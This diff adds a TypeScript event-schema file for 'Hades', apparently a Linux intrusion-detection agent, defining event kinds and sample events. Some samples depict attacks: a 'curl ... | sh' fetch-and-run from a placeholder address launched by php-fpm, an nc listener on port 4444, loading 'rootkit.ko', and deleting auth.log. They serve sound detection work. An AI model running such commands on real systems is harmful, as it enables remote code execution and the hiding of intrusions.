@@ -1,0 +1,595 @@
+/**
+ * The event schema: one table of event kinds, from which come the TypeScript types, the runtime
+ * validator (./validate.ts) and docs/events.md (./docs.ts). Add a kind here and all three follow.
+ */
+import { Type, Optional as Opt, OptionalKind, type Static, type TObject, type TSchema, type TProperties } from '@sinclair/typebox';
+import {
+  Ancestor,
+  Count,
+  Credentials,
+  Endpoint,
+  FileFields,
+  HadesProcess,
+  Int,
+  Ip,
+  Network,
+  Obj,
+  Process,
+  ProcessRef,
+  Str,
+  Timestamp,
+  Words,
+} from './fields.js';
+
+
+export const EVENT_KINDS = ['event', 'metric', 'state'] as const;
+export const EVENT_OUTCOMES = ['success', 'failure', 'unknown'] as const;
+
+/** The process context attached to every event a process causes. */
+export const ProcessContext = Obj({
+  process: Process,
+  container: Opt(Obj({ id: Str('Container id (from the cgroup path).', 128), runtime: Opt(Str('Container runtime, e.g. docker.', 32)) }, 'The container the process runs in.')),
+  hades: Opt(
+    Obj({
+      process: Opt(HadesProcess),
+      ancestors: Opt(Type.Array(Ancestor, { maxItems: 8, description: 'Ancestors, parent first (up to 8).' })),
+      ancestry: Opt(Str('One line ancestry, e.g. `bash(812) < sshd(790) < sshd(1)`.', 4096)),
+      missing: Opt(Type.Array(Str('Field path.', 64), { description: 'Fields that could not be read because the process had already exited (cn_proc backend).' })),
+    }),
+  ),
+});
+
+type ProcessUse = 'required' | 'optional' | 'none';
+
+export interface EventKindSpec<A extends string = string, F extends TProperties = TProperties> {
+  readonly action: A;
+  readonly kind: (typeof EVENT_KINDS)[number];
+  readonly category: readonly string[];
+  readonly type: readonly string[];
+  readonly summary: string;
+  readonly process: ProcessUse;
+  readonly fields: TObject<F>;
+  /** The kind-specific part of an example event (the common part is added by exampleEvent). */
+  readonly example: Record<string, unknown>;
+}
+
+function kind<A extends string, F extends TProperties, P extends ProcessUse>(
+  spec: EventKindSpec<A, F> & { process: P },
+): EventKindSpec<A, F> & { process: P } {
+  return spec;
+}
+
+const Empty = Obj({});
+
+const exampleProcess = {
+  pid: 4242,
+  entity_id: 'web-01:4242:1764316800123',
+  name: 'curl',
+  executable: '/usr/bin/curl',
+  args: ['curl', '-s', 'http://203.0.113.7/x.sh'],
+  command_line: 'curl -s http://203.0.113.7/x.sh',
+  working_directory: '/tmp',
+  user: { id: '33', name: 'www-data' },
+  parent: { pid: 4240, entity_id: 'web-01:4240:1764316800001', name: 'sh', executable: '/usr/bin/dash' },
+};
+
+const exampleHades = {
+  ancestors: [
+    { pid: 4240, name: 'sh', executable: '/usr/bin/dash', args: ['sh', '-c', 'curl -s http://203.0.113.7/x.sh | sh'] },
+    { pid: 812, name: 'php-fpm8.2', executable: '/usr/sbin/php-fpm8.2' },
+  ],
+  ancestry: 'sh(4240) < php-fpm8.2(812) < systemd(1)',
+};
+
+const Creds = Credentials('Credentials.');
+
+/** Every event kind Hades produces. `event.action` values are short and stable. */
+export const eventKinds = {
+  exec: kind({
+    action: 'exec',
+    kind: 'event',
+    category: ['process'],
+    type: ['start'],
+    summary: 'A process executed a program (execve/execveat succeeded).',
+    process: 'required',
+    fields: Empty,
+    example: {
+      process: { ...exampleProcess, args_count: 3, start: '2026-11-28T08:00:00.123Z', hash: { sha256: 'a'.repeat(64) } },
+      hades: {
+        ...exampleHades,
+        process: { tty: 'pts/0', stdio: { stdin: { type: 'pipe', inode: 91234 }, stdout: { type: 'socket', socket: { family: 'ipv4', transport: 'tcp', local_ip: '10.0.0.5', local_port: 51234, remote_ip: '203.0.113.7', remote_port: 4444 } } }, args_truncated: false },
+      },
+    },
+  }),
+  fork: kind({
+    action: 'fork',
+    kind: 'event',
+    category: ['process'],
+    type: ['start'],
+    summary: 'A process created a child process (fork/clone of a new thread group).',
+    process: 'required',
+    fields: Empty,
+    example: { process: { pid: 4243, entity_id: 'web-01:4243:1764316800200', name: 'bash', parent: { pid: 4242, entity_id: 'web-01:4242:1764316800123' } } },
+  }),
+  exit: kind({
+    action: 'exit',
+    kind: 'event',
+    category: ['process'],
+    type: ['end'],
+    summary: 'A process exited (its last thread ended).',
+    process: 'required',
+    fields: Empty,
+    example: { process: { pid: 4242, entity_id: 'web-01:4242:1764316800123', name: 'curl', exit_code: 0, end: '2026-11-28T08:00:01.000Z' } },
+  }),
+  connect: kind({
+    action: 'connect',
+    kind: 'event',
+    category: ['network'],
+    type: ['connection', 'start'],
+    summary: 'A process connected a socket to a remote address (TCP or UDP, IPv4 or IPv6).',
+    process: 'required',
+    fields: Obj({
+      source: Opt(Endpoint('Local end.')),
+      destination: Endpoint('Remote end.'),
+      network: Network,
+    }),
+    example: { process: exampleProcess, source: { ip: '10.0.0.5', port: 51234 }, destination: { ip: '203.0.113.7', port: 80 }, network: { transport: 'tcp', type: 'ipv4', direction: 'egress' }, event: { outcome: 'success' } },
+  }),
+  accept: kind({
+    action: 'accept',
+    kind: 'event',
+    category: ['network'],
+    type: ['connection', 'start'],
+    summary: 'A process accepted an incoming connection.',
+    process: 'required',
+    fields: Obj({ source: Endpoint('Remote end (the client).'), destination: Endpoint('Local end (the listener).'), network: Network }),
+    example: { process: { pid: 790, entity_id: 'web-01:790:1764300000000', name: 'sshd', executable: '/usr/sbin/sshd' }, source: { ip: '198.51.100.9', port: 50022 }, destination: { ip: '10.0.0.5', port: 22 }, network: { transport: 'tcp', type: 'ipv4', direction: 'ingress' } },
+  }),
+  listen: kind({
+    action: 'listen',
+    kind: 'event',
+    category: ['network'],
+    type: ['start'],
+    summary: 'A process started listening on an address and port.',
+    process: 'required',
+    fields: Obj({ source: Endpoint('The bound address and port.'), network: Network }),
+    example: { process: { pid: 5100, entity_id: 'web-01:5100:1764316900000', name: 'nc', executable: '/usr/bin/nc.openbsd' }, source: { ip: '0.0.0.0', port: 4444 }, network: { transport: 'tcp', type: 'ipv4' } },
+  }),
+  dns_query: kind({
+    action: 'dns_query',
+    kind: 'event',
+    category: ['network'],
+    type: ['protocol', 'info'],
+    summary: 'A process sent a DNS question (parsed from packets sent to port 53); the answer is attached where seen.',
+    process: 'required',
+    fields: Obj({
+      destination: Endpoint('The resolver.'),
+      network: Network,
+      dns: Obj(
+        {
+          id: Opt(Count('DNS message id.')),
+          type: Words(['query', 'answer'], 'query, or answer when the response was seen.'),
+          question: Obj({ name: Str('Queried name.', 255), type: Str('Record type, e.g. A, AAAA, TXT.', 16), class: Opt(Str('Class, e.g. IN.', 8)) }, 'The question.'),
+          response_code: Opt(Str('Response code, e.g. NOERROR, NXDOMAIN.', 16)),
+          answers: Opt(Type.Array(Obj({ name: Opt(Str('Name.', 255)), type: Opt(Str('Type.', 16)), data: Opt(Str('Data.', 1024)), ttl: Opt(Count('TTL in seconds.')) }, 'One answer.'), { description: 'Answers.' })),
+          resolved_ip: Opt(Type.Array(Ip('Address.'), { description: 'Addresses in the answers.' })),
+        },
+        'The DNS message.',
+      ),
+    }),
+    example: { process: exampleProcess, destination: { ip: '127.0.0.53', port: 53 }, network: { transport: 'udp', type: 'ipv4', protocol: 'dns' }, dns: { id: 4711, type: 'query', question: { name: 'x1y2.oast.fun', type: 'A', class: 'IN' } } },
+  }),
+  ptrace: kind({
+    action: 'ptrace',
+    kind: 'event',
+    category: ['process'],
+    type: ['access'],
+    summary: 'A process attached to, seized or wrote into another process with ptrace.',
+    process: 'required',
+    fields: Obj({
+      hades: Obj({
+        ptrace: Obj({ request: Str('Request name, e.g. attach, seize, pokedata, pokeuser, setregs.', 32), request_code: Int('Numeric request.'), target: ProcessRef('The traced process.') }, 'The ptrace call.'),
+      }),
+    }),
+    example: { process: { pid: 6000, entity_id: 'web-01:6000:1764317000000', name: 'gdb', executable: '/usr/bin/gdb' }, hades: { ptrace: { request: 'attach', request_code: 16, target: { pid: 790, name: 'sshd', executable: '/usr/sbin/sshd' } } } },
+  }),
+  memfd_create: kind({
+    action: 'memfd_create',
+    kind: 'event',
+    category: ['file'],
+    type: ['creation'],
+    summary: 'A process created an anonymous in-memory file (memfd_create), the first step of fileless execution.',
+    process: 'required',
+    fields: Obj({
+      file: Obj({ name: Str('The memfd name given by the caller.', 255) }, 'The in-memory file.'),
+      hades: Obj({ memfd: Obj({ flags: Count('Flags as passed.'), flag_names: Type.Array(Str('Flag.', 32), { description: 'Flag names, e.g. MFD_CLOEXEC.' }) }, 'memfd_create arguments.') }),
+    }),
+    example: { process: exampleProcess, file: { name: 'kworker' }, hades: { memfd: { flags: 1, flag_names: ['MFD_CLOEXEC'] } } },
+  }),
+  module_load: kind({
+    action: 'module_load',
+    kind: 'event',
+    category: ['driver'],
+    type: ['start'],
+    summary: 'A kernel module was loaded.',
+    process: 'optional',
+    fields: Obj({
+      hades: Obj({ module: Obj({ name: Str('Module name.', 64), path: Opt(Str('File it was loaded from, when known.')), taints: Opt(Str('Taint flags.', 32)) }, 'The module.') }),
+    }),
+    example: { process: { pid: 7000, entity_id: 'web-01:7000:1764317100000', name: 'insmod', executable: '/usr/sbin/insmod', args: ['insmod', 'rootkit.ko'] }, hades: { module: { name: 'rootkit' } } },
+  }),
+  privilege_change: kind({
+    action: 'privilege_change',
+    kind: 'event',
+    category: ['process'],
+    type: ['change'],
+    summary: 'A process changed its credentials (set*id, capset), or an exec gained root without a setuid executable or an allowed path.',
+    process: 'required',
+    fields: Obj({
+      hades: Obj({
+        privilege: Obj(
+          {
+            call: Str('What changed them: setuid, setgid, setreuid, setregid, setresuid, setresgid, setfsuid, setfsgid, capset or exec.', 16),
+            before: Creds,
+            after: Creds,
+            reason: Opt(Str('Why it is reported, e.g. root_without_setuid.', 64)),
+          },
+          'The credential change.',
+        ),
+      }),
+    }),
+    example: {
+      process: exampleProcess,
+      hades: { privilege: { call: 'setuid', before: { uid: 33, gid: 33, euid: 33, egid: 33 }, after: { uid: 0, gid: 33, euid: 0, egid: 33 } } },
+    },
+  }),
+  file_create: kind({
+    action: 'file_create',
+    kind: 'event',
+    category: ['file'],
+    type: ['creation'],
+    summary: 'A file was created in a watched place.',
+    process: 'required',
+    fields: Obj({ file: FileFields, hades: Obj({ file: Obj({ executable: Opt(Type.Boolean({ description: 'True when the file is executable.' })), watch: Opt(Str('The watched prefix that matched.')) }, 'File details.') }) }),
+    example: { process: exampleProcess, file: { path: '/tmp/x', name: 'x', directory: '/tmp', mode: '0755' }, hades: { file: { executable: true, watch: '/tmp' } } },
+  }),
+  file_rename: kind({
+    action: 'file_rename',
+    kind: 'event',
+    category: ['file'],
+    type: ['change'],
+    summary: 'A file was renamed into, out of or within a watched place.',
+    process: 'required',
+    fields: Obj({ file: FileFields, hades: Obj({ file: Obj({ old_path: Str('Path before the rename.'), watch: Opt(Str('The watched prefix that matched.')) }, 'File details.') }) }),
+    example: { process: exampleProcess, file: { path: '/etc/cron.d/job', name: 'job', directory: '/etc/cron.d' }, hades: { file: { old_path: '/tmp/job', watch: '/etc/cron.d' } } },
+  }),
+  file_delete: kind({
+    action: 'file_delete',
+    kind: 'event',
+    category: ['file'],
+    type: ['deletion'],
+    summary: 'A file was deleted from a watched place.',
+    process: 'required',
+    fields: Obj({ file: FileFields, hades: Opt(Obj({ file: Obj({ watch: Opt(Str('The watched prefix that matched.')) }, 'File details.') })) }),
+    example: { process: exampleProcess, file: { path: '/var/log/auth.log', name: 'auth.log', directory: '/var/log' } },
+  }),
+  file_chmod: kind({
+    action: 'file_chmod',
+    kind: 'event',
+    category: ['file'],
+    type: ['change'],
+    summary: 'The permissions of a file in a watched place changed.',
+    process: 'required',
+    fields: Obj({
+      file: FileFields,
+      hades: Obj({ file: Obj({ old_mode: Opt(Str('Permission bits before, octal.', 8)), made_executable: Opt(Type.Boolean({ description: 'True when the change added an execute bit.' })), setuid: Opt(Type.Boolean({ description: 'True when the new mode has the setuid or setgid bit.' })), watch: Opt(Str('The watched prefix that matched.')) }, 'File details.') }),
+    }),
+    example: { process: exampleProcess, file: { path: '/tmp/x', name: 'x', mode: '0755' }, hades: { file: { old_mode: '0644', made_executable: true } } },
+  }),
+  ssh_login: kind({
+    action: 'ssh_login',
+    kind: 'event',
+    category: ['authentication', 'session'],
+    type: ['start', 'info'],
+    summary: 'An SSH login attempt (success, failure, invalid user), from journald or auth.log.',
+    process: 'optional',
+    fields: Obj({
+      source: Endpoint('The client.'),
+      user: Obj({ name: Str('User name tried.', 256) }, 'The account.'),
+      hades: Obj({ ssh: Obj({ method: Opt(Str('password, publickey, keyboard-interactive, ...', 32)), invalid_user: Opt(Type.Boolean({ description: 'True when the user does not exist.' })) }, 'The SSH attempt.') }),
+    }),
+    example: { source: { ip: '198.51.100.9', port: 50022 }, user: { name: 'root' }, event: { outcome: 'failure' }, hades: { ssh: { method: 'password', invalid_user: false } } },
+  }),
+  sudo: kind({
+    action: 'sudo',
+    kind: 'event',
+    category: ['process', 'authentication'],
+    type: ['start', 'info'],
+    summary: 'A command was run (or refused) through sudo, from the logs.',
+    process: 'optional',
+    fields: Obj({
+      user: Obj({ name: Str('Who ran sudo.', 256), target: Opt(Obj({ name: Str('Target user.', 256) }, 'The user the command runs as.')) }, 'The accounts.'),
+      hades: Obj({ sudo: Obj({ command: Str('The command line sudo logged.', 65536), tty: Opt(Str('Terminal.', 64)), working_directory: Opt(Str('Folder.')) }, 'The sudo log entry.') }),
+    }),
+    example: { user: { name: 'alice', target: { name: 'root' } }, event: { outcome: 'success' }, hades: { sudo: { command: '/usr/bin/systemctl restart nginx', tty: 'pts/1', working_directory: '/home/alice' } } },
+  }),
+  honeypot_touch: kind({
+    action: 'honeypot_touch',
+    kind: 'event',
+    category: ['network', 'intrusion_detection'],
+    type: ['connection', 'info'],
+    summary: 'Something connected to or sent data to a decoy port opened by the honeypot mode.',
+    process: 'none',
+    fields: Obj({
+      source: Endpoint('Who touched the decoy.'),
+      destination: Endpoint('The decoy address and port.'),
+      network: Network,
+      hades: Obj({ honeypot: Obj({ service: Opt(Str('Service the decoy imitates.', 32)), bytes: Count('Bytes received.'), payload: Opt(Str('First bytes received, base64.', 8192)) }, 'The touch.') }),
+    }),
+    example: { source: { ip: '10.0.0.77', port: 40000 }, destination: { ip: '10.0.0.5', port: 2323 }, network: { transport: 'tcp', type: 'ipv4', direction: 'ingress' }, hades: { honeypot: { service: 'telnet', bytes: 12, payload: 'cm9vdA0KYWRtaW4NCg==' } } },
+  }),
+  scan_match: kind({
+    action: 'scan_match',
+    kind: 'event',
+    category: ['malware', 'file'],
+    type: ['info'],
+    summary: 'A YARA scan matched a file.',
+    process: 'optional',
+    fields: Obj({
+      file: FileFields,
+      hades: Obj({
+        scan: Obj(
+          {
+            engine: Str('Scanner, e.g. yara-x.', 32),
+            trigger: Words(['on_demand', 'new_executable', 'scheduled'], 'Why the file was scanned.'),
+            rules: Type.Array(Obj({ id: Str('Rule identifier.', 128), namespace: Opt(Str('Namespace.', 128)), tags: Opt(Type.Array(Str('Tag.', 64), { description: 'Tags.' })) }, 'A matching rule.'), { description: 'Rules that matched.' }),
+          },
+          'The scan.',
+        ),
+      }),
+    }),
+    example: { file: { path: '/tmp/.x/xmrig', name: 'xmrig', hash: { sha256: 'b'.repeat(64) } }, hades: { scan: { engine: 'yara-x', trigger: 'new_executable', rules: [{ id: 'XMRig_Miner', tags: ['miner'] }] } } },
+  }),
+  inventory_change: kind({
+    action: 'inventory_change',
+    kind: 'state',
+    category: ['host', 'configuration'],
+    type: ['change', 'info'],
+    summary: 'A row appeared in or disappeared from an inventory table, or a full snapshot row at start.',
+    process: 'none',
+    fields: Obj({
+      hades: Obj({
+        inventory: Obj(
+          {
+            table: Str('Table name, e.g. listening_ports.', 64),
+            query: Opt(Str('Name of the scheduled query.', 128)),
+            change: Words(['added', 'removed', 'snapshot'], 'What happened to the row.'),
+            row: Type.Record(Type.String(), Type.Union([Type.String(), Type.Number(), Type.Boolean(), Type.Null()]), { description: 'The row, column to value.' }),
+          },
+          'The inventory row.',
+        ),
+      }),
+    }),
+    example: { hades: { inventory: { table: 'listening_ports', change: 'added', row: { pid: 5100, port: 4444, address: '0.0.0.0', protocol: 'tcp' } } } },
+  }),
+  package_finding: kind({
+    action: 'package_finding',
+    kind: 'state',
+    category: ['package', 'malware'],
+    type: ['info'],
+    summary: 'An installed package looks malicious: a typosquat of a popular name or on a known-bad list.',
+    process: 'none',
+    fields: Obj({
+      package: Obj({ name: Str('Package name.', 256), version: Opt(Str('Version.', 128)), type: Str('Ecosystem: python, npm, deb, rpm, jar.', 16), path: Opt(Str('Where it is installed.')) }, 'The package.'),
+      hades: Obj({ finding: Obj({ reason: Words(['typosquat', 'known_bad', 'vulnerable'], 'Why it is reported.'), similar_to: Opt(Str('The popular package it imitates.', 256)), distance: Opt(Count('Edit distance to it.')), detail: Opt(Str('More context.', 1024)) }, 'The finding.') }),
+    }),
+    example: { package: { name: 'reqeusts', version: '2.31.0', type: 'python', path: '/usr/lib/python3/dist-packages' }, hades: { finding: { reason: 'typosquat', similar_to: 'requests', distance: 2 } } },
+  }),
+  tamper: kind({
+    action: 'tamper',
+    kind: 'event',
+    category: ['intrusion_detection'],
+    type: ['info'],
+    summary: 'Something killed a Hades process or changed or removed its files.',
+    process: 'optional',
+    fields: Obj({
+      hades: Obj({
+        tamper: Obj(
+          { target: Words(['process', 'file'], 'What was touched.'), signal: Opt(Int('Signal sent, for kills.')), target_pid: Opt(Count('Process that received it.')), path: Opt(Str('File that was changed or removed.')) },
+          'The tampering.',
+        ),
+      }),
+    }),
+    example: { process: { pid: 8000, entity_id: 'web-01:8000:1764317200000', name: 'kill', executable: '/usr/bin/kill' }, hades: { tamper: { target: 'process', signal: 9, target_pid: 900 } } },
+  }),
+  agent_drop: kind({
+    action: 'agent_drop',
+    kind: 'metric',
+    category: ['host'],
+    type: ['info'],
+    summary: 'Events were dropped, sampled or aggregated somewhere on the host; counts by place and reason.',
+    process: 'none',
+    fields: Obj({
+      hades: Obj({
+        drops: Obj(
+          {
+            component: Words(['kernel', 'driver', 'pipe', 'agent', 'spool', 'output'], 'Where the events were lost or reduced.'),
+            hook: Opt(Str('Kernel hook or event action concerned.', 64)),
+            reason: Str('Why, e.g. ringbuf_full, queue_full, rate_limit, aggregated, spool_full.', 64),
+            count: Count('Events concerned since the previous report.'),
+            since: Timestamp('Start of the period.'),
+          },
+          'The drop report.',
+        ),
+      }),
+    }),
+    example: { hades: { drops: { component: 'kernel', hook: 'sched_process_exec', reason: 'ringbuf_full', count: 12, since: '2026-11-28T07:59:00.000Z' } } },
+  }),
+  agent_gap: kind({
+    action: 'agent_gap',
+    kind: 'event',
+    category: ['host'],
+    type: ['info'],
+    summary: 'A period during which a collector was not running (a crashed and restarted driver or plugin); events in it were not seen.',
+    process: 'none',
+    fields: Obj({
+      hades: Obj({
+        gap: Obj(
+          {
+            component: Str('Driver or plugin name.', 64),
+            reason: Str('Why it stopped, e.g. killed by SIGKILL, exit code 1.', 256),
+            start: Timestamp('When it stopped.'),
+            end: Timestamp('When it was running again.'),
+            restarts: Opt(Count('Restarts so far.')),
+          },
+          'The gap.',
+        ),
+      }),
+    }),
+    example: { hades: { gap: { component: 'driver', reason: 'killed by SIGKILL', start: '2026-11-28T08:00:00.000Z', end: '2026-11-28T08:00:00.250Z', restarts: 1 } } },
+  }),
+  agent_health: kind({
+    action: 'agent_health',
+    kind: 'metric',
+    category: ['host'],
+    type: ['info'],
+    summary: 'The agent\'s periodic heartbeat: its own and every plugin\'s health and resource use.',
+    process: 'none',
+    fields: Obj({
+      hades: Obj({
+        health: Obj(
+          {
+            version: Str('Agent version.', 32),
+            uptime_s: Count('Seconds since the agent started.'),
+            cpu_percent: Type.Number({ minimum: 0, description: 'CPU use over the last period, percent of one core.' }),
+            memory_rss_bytes: Count('Resident memory.'),
+            open_fds: Opt(Count('Open file descriptors.')),
+            queue_depth: Opt(Count('Events waiting in memory.')),
+            spool_bytes: Opt(Count('Bytes in the disk spool.')),
+            events_in: Count('Events received since start.'),
+            events_out: Count('Events delivered since start.'),
+            events_dropped: Count('Events dropped since start (all reasons).'),
+            plugins: Opt(
+              Type.Array(
+                Obj(
+                  {
+                    name: Str('Plugin name.', 64),
+                    version: Opt(Str('Version.', 32)),
+                    state: Words(['starting', 'running', 'backoff', 'stopping', 'stopped', 'failed'], 'Supervisor state.'),
+                    pid: Opt(Count('Process id.')),
+                    restarts: Count('Restarts since the agent started.'),
+                    cpu_percent: Opt(Type.Number({ minimum: 0, description: 'CPU percent of one core.' })),
+                    memory_rss_bytes: Opt(Count('Resident memory.')),
+                  },
+                  'One plugin.',
+                ),
+                { description: 'Plugins.' },
+              ),
+            ),
+          },
+          'Health figures.',
+        ),
+      }),
+    }),
+    example: { hades: { health: { version: '0.1.0', uptime_s: 3600, cpu_percent: 0.2, memory_rss_bytes: 52428800, events_in: 120000, events_out: 120000, events_dropped: 0, plugins: [{ name: 'driver', state: 'running', pid: 901, restarts: 0 }] } } },
+  }),
+} as const;
+
+export type EventKinds = typeof eventKinds;
+export type EventAction = keyof EventKinds;
+export const eventActions = Object.keys(eventKinds) as EventAction[];
+
+/** The fields every event has, whatever its kind. */
+export function commonFields(spec: EventKindSpec) {
+  const categories = spec.category.map((c) => Type.Literal(c));
+  const types = spec.type.map((t) => Type.Literal(t));
+  return Obj({
+    '@timestamp': Timestamp('When the event happened (UTC, ISO 8601).'),
+    event: Obj(
+      {
+        id: Str('Unique id of the event; the server drops duplicates by it.', 64),
+        kind: Type.Literal(spec.kind, { description: 'ECS event kind.' }),
+        category: Type.Array(Type.Union(categories), { minItems: 1, description: 'ECS categories.' }),
+        type: Type.Array(Type.Union(types), { minItems: 1, description: 'ECS types.' }),
+        action: Type.Literal(spec.action, { description: 'What happened, one of the actions in this document.' }),
+        sequence: Count('Position in the agent\'s stream; increases by one per event from one agent.'),
+        outcome: Type.Optional(Words(EVENT_OUTCOMES, 'success or failure, where the action can fail.')),
+        count: Type.Optional(Count('Number of occurrences this event stands for when aggregated (high-rate kinds).')),
+        ingested: Type.Optional(Timestamp('When the server stored it.')),
+      },
+      'Event metadata.',
+    ),
+    host: Obj(
+      {
+        name: Str('Host name.', 256),
+        hostname: Type.Optional(Str('Host name as the kernel reports it.', 256)),
+        id: Type.Optional(Str('Machine id.', 64)),
+        ip: Type.Optional(Type.Array(Ip('Address.'), { description: 'Host addresses.' })),
+        architecture: Type.Optional(Str('CPU architecture.', 32)),
+        os: Type.Optional(Obj({ type: Type.Optional(Str('linux.', 16)), kernel: Type.Optional(Str('Kernel release.', 128)), name: Type.Optional(Str('Distribution.', 128)), version: Type.Optional(Str('Distribution version.', 64)) }, 'Operating system.')),
+      },
+      'The host the event comes from.',
+    ),
+    agent: Type.Optional(Obj({ id: Type.Optional(Str('Agent id.', 64)), version: Type.Optional(Str('Agent version.', 32)), type: Type.Optional(Type.Literal('hades', { description: 'Always hades.' })) }, 'The agent that collected it.')),
+    hades: Type.Optional(Obj({ backend: Type.Optional(Str('Source of the event: ebpf, cnproc, inventory, logs, honeypot, scanner, agent.', 16)) })),
+  });
+}
+
+/** Deep-merges object schemas: a field present in both keeps both sets of sub-fields. */
+function merge(a: TObject, b: TObject): TObject {
+  const properties: Record<string, TSchema> = { ...a.properties };
+  for (const [key, schemaB] of Object.entries(b.properties)) {
+    const schemaA = properties[key];
+    if (schemaA && schemaA['type'] === 'object' && schemaB['type'] === 'object' && 'properties' in schemaA && 'properties' in schemaB) {
+      const merged = merge(schemaA as unknown as TObject, schemaB as unknown as TObject);
+      const optional = schemaA[OptionalKind] === 'Optional' && schemaB[OptionalKind] === 'Optional';
+      properties[key] = optional ? Type.Optional(merged) : merged;
+    } else {
+      properties[key] = schemaB;
+    }
+  }
+  const description = b.description ?? a.description;
+  return Type.Object(properties, { additionalProperties: false, ...(description ? { description } : {}) });
+}
+
+function fullSchema(spec: EventKindSpec): TObject {
+  let schema: TObject = commonFields(spec);
+  if (spec.process !== 'none') {
+    const context = spec.process === 'required' ? ProcessContext : Type.Partial(ProcessContext);
+    schema = merge(schema, context);
+  }
+  return merge(schema, spec.fields);
+}
+
+/** The complete JSON Schema of each kind, keyed by `event.action`. */
+export const eventSchemas: Readonly<Record<EventAction, TObject>> = Object.freeze(
+  Object.fromEntries(eventActions.map((a) => [a, fullSchema(eventKinds[a])])) as Record<EventAction, TObject>,
+);
+
+// ----- static types -----
+type CommonFields = Static<ReturnType<typeof commonFields>>;
+type ProcessContextFields = Static<typeof ProcessContext>;
+type ProcessPart<P> = P extends 'required' ? ProcessContextFields : P extends 'optional' ? Partial<ProcessContextFields> : unknown;
+
+export type EventOf<A extends EventAction> = CommonFields & { event: { action: A } } & ProcessPart<EventKinds[A]['process']> & Static<EventKinds[A]['fields']>;
+
+/** Any Hades event. Narrow with `isAction(e, 'exec')`. */
+export type HadesEvent = { [A in EventAction]: EventOf<A> }[EventAction];
+
+export function isAction<A extends EventAction>(event: HadesEvent, action: A): event is EventOf<A> & HadesEvent {
+  return event.event.action === action;
+}
+
+/** A complete example event of a kind: the common fields plus the kind's own example. */
+export function exampleEvent(action: EventAction): Record<string, unknown> {
+  const spec: EventKindSpec = eventKinds[action];
+  const { event: extraEvent, ...rest } = spec.example as { event?: Record<string, unknown> };
+  return {
+    '@timestamp': '2026-11-28T08:00:00.123Z',
+    event: { id: '01JDQ7Z3M4S9W2R8K5T6Y1X0AB', kind: spec.kind, category: [...spec.category], type: [spec.type[0]], action, sequence: 1042, ...extraEvent },
+    host: { name: 'web-01', os: { type: 'linux', kernel: '6.18.0' } },
+    agent: { id: 'a6f1c2d4', version: '0.1.0', type: 'hades' },
+    ...rest,
+  };
+}
+
